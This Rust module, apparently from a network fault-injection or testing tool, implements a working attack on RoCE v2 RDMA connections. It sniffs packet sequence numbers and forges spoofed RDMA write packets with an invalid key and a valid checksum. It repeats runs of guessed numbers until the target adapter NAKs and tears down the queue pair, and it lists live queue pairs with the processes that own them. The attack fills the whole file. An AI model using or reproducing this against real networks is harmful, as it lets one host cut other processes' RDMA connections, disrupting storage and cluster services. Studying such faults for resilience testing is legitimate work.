//! Breaks queue pairs of RoCE v2: a forged packet reaches an end of the connection, as if the other end had sent it.
//!
//! The packet is a write with a key that no memory has, so it writes nothing. The adapter that gets it must answer with a NAK and put its queue pair into
//! the error state; the NAK does the same to the other one, if that has a request on its way. An adapter takes a request only if it has
//! exactly the packet number that it expects next. The numbers are sniffed. A busy queue pair moves on meanwhile, so packets with the numbers that follow are
//! sent as well, and again, until one is in time. For one that comes too early the adapter asks the peer for what is missing; one that comes too late it knows.
//!
//! Packet sockets see what soft adapters (rxe) send. Others pass their packets by the kernel.

use std::{
    fmt, fs, io,
    net::Ipv4Addr,
    time::{Duration, Instant},
};

use pnet::{
    datalink::{self, DataLinkReceiver, DataLinkSender},
    packet::{
        Packet,
        ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket},
        ip::IpNextHeaderProtocols,
        ipv4::{self, Ipv4Packet, MutableIpv4Packet},
        udp::{MutableUdpPacket, UdpPacket},
    },
    util::MacAddr,
};
use serde::Deserialize;

use super::{
    adapter::{parsed, rdma},
    inject::packet_socket,
};
use crate::{Error, Netns, Result};

/// UDP port of RoCE v2.
const ROCE: u16 = 4791;
/// Any port will do: it is for the choice of a path.
const SOURCE_PORT: u16 = 0xc000;
const ETHERNET: usize = 14;
const IPV4: usize = 20;
const UDP: usize = 8;
/// Base transport header, and what follows it in a write, and in an acknowledgement.
const BTH: usize = 12;
const RETH: usize = 16;
const AETH: usize = 4;
const DATA: usize = 8;
/// The checksum at the end.
const ICRC: usize = 4;
/// Operations of reliable connections: the last request that has one packet number, a write of one packet, an acknowledgement.
const LAST_WRITE: u8 = 0x0b;
const WRITE_ONLY: u8 = 0x0a;
const ACKNOWLEDGE: u8 = 0x11;
/// Numbers of packets have 24 bits.
const PSN: u32 = 0x00ff_ffff;
/// So many numbers from the next one on are tried at once.
const RUN: u32 = 64;
/// How long each attempt listens for packets.
const LISTEN: Duration = Duration::from_millis(20);
/// How often the kernel is asked for the state of the queue pair: a NAK may be lost.
const LOOK: Duration = Duration::from_millis(300);

/// A connected queue pair, as the kernel lists it.
#[derive(Clone, Debug, Deserialize, PartialEq, Eq)]
pub struct RocePair {
    /// Adapter.
    #[serde(rename = "ifname")]
    pub device: String,
    /// Its number.
    #[serde(rename = "lqpn")]
    pub number: u32,
    /// The number at the other end; none if it is not connected.
    #[serde(rename = "rqpn", default)]
    pub peer: u32,
    /// Type of service: `RC` for reliable connections.
    #[serde(rename = "type", default)]
    pub service: String,
    /// Its state: `RTS` while it works.
    #[serde(default)]
    pub state: String,
    /// The process that has it; none if the kernel has.
    pub pid: Option<u32>,
    /// Name of the process, or of the kernel's module.
    #[serde(default)]
    pub comm: String,
}

/// Report of a forged packet.
#[derive(Clone, Debug)]
pub struct RoceBroken {
    /// The queue pair from which the packet seemed to come.
    pub pair: RocePair,
    /// Number of packets sent until one was taken.
    pub sent: u32,
    /// The other end has answered that it has failed, or this one has.
    pub accepted: bool,
    /// The queue pair has ended, perhaps by itself.
    pub gone: bool,
    /// Time from the start to that.
    pub took: Duration,
}

/// The working queue pairs for reliable connections in `net`.
pub fn working_pairs(net: &Netns) -> Result<Vec<RocePair>> {
    let text = rdma(net, &["-j", "resource", "show", "qp"])?;
    let mut pairs: Vec<RocePair> = parsed(&text, "queue pairs")?;
    pairs.retain(RocePair::works);
    for pair in &mut pairs {
        pair.name_process();
    }
    Ok(pairs)
}

/// Sends a forged packet of `pair`, on whose host this runs, to its peer. `interface` is that of the adapter. Tries for `limit` at most.
pub fn break_pair(
    net: &Netns,
    interface: &str,
    pair: &RocePair,
    limit: Duration,
) -> Result<RoceBroken> {
    let start = Instant::now();
    let work = || -> io::Result<(u32, BreakEnd)> {
        let mut wire = RoceWire::open(interface, pair)?;
        let (mut sent, mut looked) = (0, Instant::now());
        while start.elapsed() < limit {
            match wire.listen()? {
                RoceHeard::Failed => return Ok((sent, BreakEnd::Accepted)),
                RoceHeard::Next(seen, next) => {
                    for number in next..next + RUN {
                        wire.send(&forged(&seen, pair.peer, number & PSN))?;
                        sent += 1;
                    }
                }
                RoceHeard::Nothing => {}
            }
            if looked.elapsed() > LOOK {
                if !works(net, pair)? {
                    return Ok((sent, BreakEnd::Gone));
                }
                looked = Instant::now();
            }
        }
        Ok((sent, BreakEnd::Works))
    };
    let (sent, end) = net
        .run(work)?
        .map_err(Error::io("inject a packet of RoCE"))?;
    Ok(RoceBroken {
        pair: pair.clone(),
        sent,
        accepted: end == BreakEnd::Accepted || sent > 0 && end == BreakEnd::Gone,
        gone: end == BreakEnd::Gone,
        took: start.elapsed(),
    })
}

#[derive(PartialEq, Eq)]
enum BreakEnd {
    /// The peer has failed.
    Accepted,
    /// The queue pair is gone, or has failed.
    Gone,
    Works,
}

fn works(net: &Netns, pair: &RocePair) -> io::Result<bool> {
    let all = working_pairs(net).map_err(io::Error::other)?;
    Ok(all.contains(pair))
}

impl RocePair {
    /// The kernel tells the thread that has made it.
    fn name_process(&mut self) {
        let status = |pid: u32| fs::read_to_string(format!("/proc/{pid}/status"));
        let field = |text: &str, name: &str| {
            let line = text.lines().find_map(|line| line.strip_prefix(name));
            line.map(|rest| rest.trim().to_owned())
        };
        let process = self.pid.and_then(|thread| status(thread).ok());
        let process = process.and_then(|text| field(&text, "Tgid:")?.parse().ok());
        let Some(pid) = process else { return };
        self.pid = Some(pid);
        if let Some(name) = status(pid).ok().and_then(|text| field(&text, "Name:")) {
            self.comm = name;
        }
    }

    fn works(&self) -> bool {
        self.service == "RC" && self.state == "RTS"
    }
}

/// Where the next packet from one end to the other goes, and its number.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct RoceSeen {
    macs: [MacAddr; 2],
    addresses: [Ipv4Addr; 2],
    partition: u16,
    /// Each direction has numbers of its own, and what the peer sends does not tell this one.
    next: Option<u32>,
}

#[derive(Debug, PartialEq, Eq)]
enum RoceHeard {
    Nothing,
    /// The peer expects this packet, as far as is known.
    Next(RoceSeen, u32),
    /// The peer's queue pair has failed.
    Failed,
}

/// A packet socket on the interface of the queue pair.
struct RoceWire<'a> {
    pair: &'a RocePair,
    own: MacAddr,
    /// What the peer's packets have told.
    seen: Option<RoceSeen>,
    sender: Box<dyn DataLinkSender>,
    receiver: Box<dyn DataLinkReceiver>,
}

impl<'a> RoceWire<'a> {
    fn open(interface: &str, pair: &'a RocePair) -> io::Result<Self> {
        let (sender, receiver) = packet_socket(interface)?;
        let all = datalink::interfaces();
        let own = all.into_iter().find(|i| i.name == interface);
        let own = own.and_then(|i| i.mac);
        Ok(Self {
            pair,
            own: own.ok_or_else(|| io::Error::other("no Ethernet address"))?,
            seen: None,
            sender,
            receiver,
        })
    }

    /// Reads what has passed, and waits up to [`LISTEN`] for something.
    fn listen(&mut self) -> io::Result<RoceHeard> {
        let until = Instant::now() + LISTEN;
        let mut news = false;
        loop {
            match self.receiver.next() {
                Ok(frame) => match RocePacket::read(frame) {
                    Some(packet) if packet.fails(self.own, self.pair) => {
                        return Ok(RoceHeard::Failed);
                    }
                    Some(packet) => news |= note(&mut self.seen, &packet, self.own, self.pair),
                    None => {}
                },
                Err(e) if e.kind() != io::ErrorKind::TimedOut => return Err(e),
                Err(_) if news => break,
                // Do not sleep: meanwhile the traffic would outdate the numbers.
                Err(_) => std::thread::yield_now(),
            }
            // Others may send all the time.
            if Instant::now() > until {
                break;
            }
        }
        Ok(match self.seen {
            Some(seen) if news => seen
                .next
                .map_or(RoceHeard::Nothing, |number| RoceHeard::Next(seen, number)),
            _ => RoceHeard::Nothing,
        })
    }

    fn send(&mut self, frame: &[u8]) -> io::Result<()> {
        match self.sender.send_to(frame, None) {
            Some(result) => result,
            None => Err(io::Error::other("the packet socket takes no more")),
        }
    }
}

/// Takes what a packet says of the number that the peer expects. Says whether it says anything.
fn note(seen: &mut Option<RoceSeen>, packet: &RocePacket, own: MacAddr, pair: &RocePair) -> bool {
    let [from, to] = packet.macs;
    if to == own && packet.to_pair == pair.number {
        // Numbers of queue pairs are those of an adapter: only a packet to this one tells which host its peer is on.
        let known = seen.get_or_insert(RoceSeen {
            macs: [to, from],
            addresses: [packet.addresses[1], packet.addresses[0]],
            partition: packet.partition,
            next: None,
        });
        let acknowledges = packet.syndrome.is_some_and(|syndrome| syndrome < 0x20);
        return acknowledges && known.advance(packet.number);
    }
    let Some(known) = seen else { return false };
    let to_peer = from == own && packet.addresses == known.addresses && packet.to_pair == pair.peer;
    to_peer && packet.operation <= LAST_WRITE && known.advance(packet.number)
}

impl RoceSeen {
    /// The packet after this one is the next, unless that is known to have passed.
    fn advance(&mut self, number: u32) -> bool {
        let next = (number + 1) & PSN;
        let newer = self
            .next
            .is_none_or(|known| next.wrapping_sub(known) & PSN < 1 << 23);
        if newer {
            self.next = Some(next);
        }
        newer
    }
}

/// What counts of a packet of RoCE.
#[derive(Clone, Copy, Debug)]
struct RocePacket {
    macs: [MacAddr; 2],
    addresses: [Ipv4Addr; 2],
    operation: u8,
    partition: u16,
    to_pair: u32,
    number: u32,
    /// Of an acknowledgement.
    syndrome: Option<u8>,
}

impl RocePacket {
    fn read(frame: &[u8]) -> Option<Self> {
        let ethernet = EthernetPacket::new(frame)?;
        if ethernet.get_ethertype() != EtherTypes::Ipv4 {
            return None;
        }
        let ip = Ipv4Packet::new(ethernet.payload())?;
        if ip.get_next_level_protocol() != IpNextHeaderProtocols::Udp {
            return None;
        }
        let udp = UdpPacket::new(ip.payload())?;
        let bytes = udp.payload();
        if udp.get_destination() != ROCE || bytes.len() < BTH + ICRC {
            return None;
        }
        let three = |at: usize| u32::from_be_bytes([0, bytes[at], bytes[at + 1], bytes[at + 2]]);
        let operation = bytes[0];
        let is_answer = operation == ACKNOWLEDGE && bytes.len() >= BTH + AETH + ICRC;
        Some(Self {
            macs: [ethernet.get_source(), ethernet.get_destination()],
            addresses: [ip.get_source(), ip.get_destination()],
            operation,
            partition: u16::from_be_bytes([bytes[2], bytes[3]]),
            to_pair: three(5),
            number: three(9),
            syndrome: is_answer.then(|| bytes[BTH]),
        })
    }

    /// The peer says that it has failed: a NAK, but not one that asks for packets again.
    fn fails(&self, own: MacAddr, pair: &RocePair) -> bool {
        let failed = self.syndrome.is_some_and(|s| (0x61..0x80).contains(&s));
        failed && self.macs[1] == own && self.to_pair == pair.number
    }
}

/// A write of one packet, with a key that no memory has.
fn forged(seen: &RoceSeen, to_pair: u32, number: u32) -> Vec<u8> {
    let after_ip = UDP + BTH + RETH + DATA + ICRC;
    let mut bytes = vec![0; ETHERNET + IPV4 + after_ip];
    let mut ethernet = MutableEthernetPacket::new(&mut bytes).expect("the buffer holds the header");
    ethernet.set_source(seen.macs[0]);
    ethernet.set_destination(seen.macs[1]);
    ethernet.set_ethertype(EtherTypes::Ipv4);
    let mut ip =
        MutableIpv4Packet::new(&mut bytes[ETHERNET..]).expect("the buffer holds the header");
    ip.set_version(4);
    ip.set_header_length((IPV4 / 4) as u8);
    ip.set_total_length((IPV4 + after_ip) as u16);
    ip.set_ttl(64);
    ip.set_next_level_protocol(IpNextHeaderProtocols::Udp);
    ip.set_source(seen.addresses[0]);
    ip.set_destination(seen.addresses[1]);
    let checksum = ipv4::checksum(&ip.to_immutable());
    ip.set_checksum(checksum);
    let mut udp =
        MutableUdpPacket::new(&mut bytes[ETHERNET + IPV4..]).expect("the buffer holds the header");
    udp.set_source(SOURCE_PORT);
    udp.set_destination(ROCE);
    udp.set_length(after_ip as u16);
    let header = &mut bytes[ETHERNET + IPV4 + UDP..];
    header[0] = WRITE_ONLY;
    // The path has not migrated.
    header[1] = 0x40;
    header[2..4].copy_from_slice(&seen.partition.to_be_bytes());
    header[5..8].copy_from_slice(&to_pair.to_be_bytes()[1..]);
    // An answer is asked for.
    header[8] = 0x80;
    header[9..12].copy_from_slice(&number.to_be_bytes()[1..]);
    header[BTH + 12..BTH + RETH].copy_from_slice(&(DATA as u32).to_be_bytes());
    let end = bytes.len() - ICRC;
    let checksum = icrc(&bytes[ETHERNET..end]);
    bytes[end..].copy_from_slice(&checksum.to_le_bytes());
    bytes
}

/// The checksum of a packet, from its IP header on: that of Ethernet, where all that routers may change counts as ones.
fn icrc(packet: &[u8]) -> u32 {
    const CHANGES: [usize; 7] = [1, 8, 10, 11, IPV4 + 6, IPV4 + 7, IPV4 + UDP + 4];
    let masked = packet.iter().enumerate().map(|(at, byte)| match at {
        at if CHANGES.contains(&at) => 0xff,
        _ => *byte,
    });
    let mut crc = u32::MAX;
    for byte in [0xff; 8].into_iter().chain(masked) {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = (crc >> 1) ^ (0xedb8_8320 & (crc & 1).wrapping_neg());
        }
    }
    !crc
}

impl fmt::Display for RocePair {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} queue pair {}", self.device, self.number)?;
        match self.pid {
            Some(pid) => write!(f, " of {} ({pid})", self.comm),
            None => Ok(()),
        }
    }
}

impl fmt::Display for RoceBroken {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self {
            pair, sent, took, ..
        } = self;
        let took = took.as_secs_f64();
        match (self.accepted, sent) {
            (true, _) => write!(f, "{pair} after {sent} packet(s), {took:.3} s"),
            (false, 0) if self.gone => write!(f, "{pair} had failed before"),
            (false, 0) => write!(f, "{pair}: no packet of it seen for {took:.1} s"),
            (false, _) => write!(f, "{pair}: still working after {sent} packets, {took:.1} s"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const OWN: MacAddr = MacAddr(2, 0, 0, 0, 0, 1);
    const PEER: MacAddr = MacAddr(2, 0, 0, 0, 0, 2);

    fn pair() -> RocePair {
        RocePair {
            device: "rx1".into(),
            number: 17,
            peer: 18,
            service: "RC".into(),
            state: "RTS".into(),
            pid: Some(1),
            comm: "program".into(),
        }
    }

    fn seen(next: Option<u32>) -> RoceSeen {
        RoceSeen {
            macs: [OWN, PEER],
            addresses: [[10, 1, 0, 1].into(), [10, 1, 0, 2].into()],
            partition: 0xffff,
            next,
        }
    }

    #[test]
    fn a_forged_packet_is_read_as_what_it_is() {
        let frame = forged(&seen(None), 18, PSN);
        let packet = RocePacket::read(&frame).unwrap();
        assert_eq!((packet.operation, packet.to_pair), (WRITE_ONLY, 18));
        assert_eq!((packet.number, packet.partition), (PSN, 0xffff));
        assert_eq!((packet.macs, packet.syndrome), ([OWN, PEER], None));
        assert!(RocePacket::read(&frame[..50]).is_none());
    }

    #[test]
    fn only_packets_of_the_connection_tell_its_number() {
        let own = RocePacket::read(&forged(&seen(None), 18, 5)).unwrap();
        let mut known = None;
        assert!(
            !note(&mut known, &own, OWN, &pair()),
            "whose it is, is not known"
        );
        let answer = RocePacket {
            macs: [PEER, OWN],
            addresses: [own.addresses[1], own.addresses[0]],
            operation: ACKNOWLEDGE,
            to_pair: 17,
            number: 7,
            syndrome: Some(0x1f),
            ..own
        };
        // A request of the peer has a number of the other direction.
        let request = RocePacket {
            operation: WRITE_ONLY,
            number: 0x0080_0007,
            syndrome: None,
            ..answer
        };
        assert!(!note(&mut known, &request, OWN, &pair()));
        assert_eq!(known, Some(seen(None)));
        assert!(note(&mut known, &answer, OWN, &pair()));
        assert_eq!(known, Some(seen(Some(8))));
        assert!(!note(&mut known, &own, OWN, &pair()), "5 has passed");
        let later = RocePacket { number: 8, ..own };
        assert!(note(&mut known, &later, OWN, &pair()));
        assert_eq!(known, Some(seen(Some(9))));
        let other_host = RocePacket {
            addresses: [own.addresses[0], [10, 1, 0, 3].into()],
            number: 20,
            ..own
        };
        assert!(!note(&mut known, &other_host, OWN, &pair()));
        let nak = |syndrome| RocePacket {
            syndrome: Some(syndrome),
            ..answer
        };
        assert!(
            !nak(0x60).fails(OWN, &pair()),
            "packets are to be sent again"
        );
        assert!(nak(0x62).fails(OWN, &pair()));
        assert!(!nak(0x62).fails(PEER, &pair()));
    }

    #[test]
    fn numbers_wrap() {
        let mut known = seen(Some(PSN));
        assert!(known.advance(PSN));
        assert_eq!(known.next, Some(0));
        assert!(!known.advance(PSN - 1));
    }

    #[test]
    fn the_list_of_queue_pairs_is_read() {
        let text = r#"[{"ifindex":0,"ifname":"rx1","port":1,"lqpn":1,"type":"GSI","state":"RTS","sq-psn":0,"comm":"[ib_core]"},
            {"ifindex":0,"ifname":"rx1","port":1,"lqpn":17,"rqpn":18,"type":"RC","state":"RTS","path-mig-state":"MIGRATED",
             "rq-psn":0,"sq-psn":0,"pid":1,"comm":"program"}]"#;
        let mut all: Vec<RocePair> = parsed(text, "").unwrap();
        all.retain(RocePair::works);
        assert_eq!(all, [pair()]);
        assert_eq!(parsed::<RocePair>("\n", "").unwrap(), []);
    }
}
